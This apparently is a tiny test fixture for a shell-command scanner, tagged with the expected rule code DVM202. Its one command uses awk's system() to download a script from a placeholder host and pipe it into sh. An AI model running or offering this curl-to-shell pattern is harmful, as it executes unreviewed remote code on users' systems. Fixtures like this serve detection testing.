# expect: DVM202
awk 'BEGIN { system("curl -s https://x.example.org/a | sh") }'
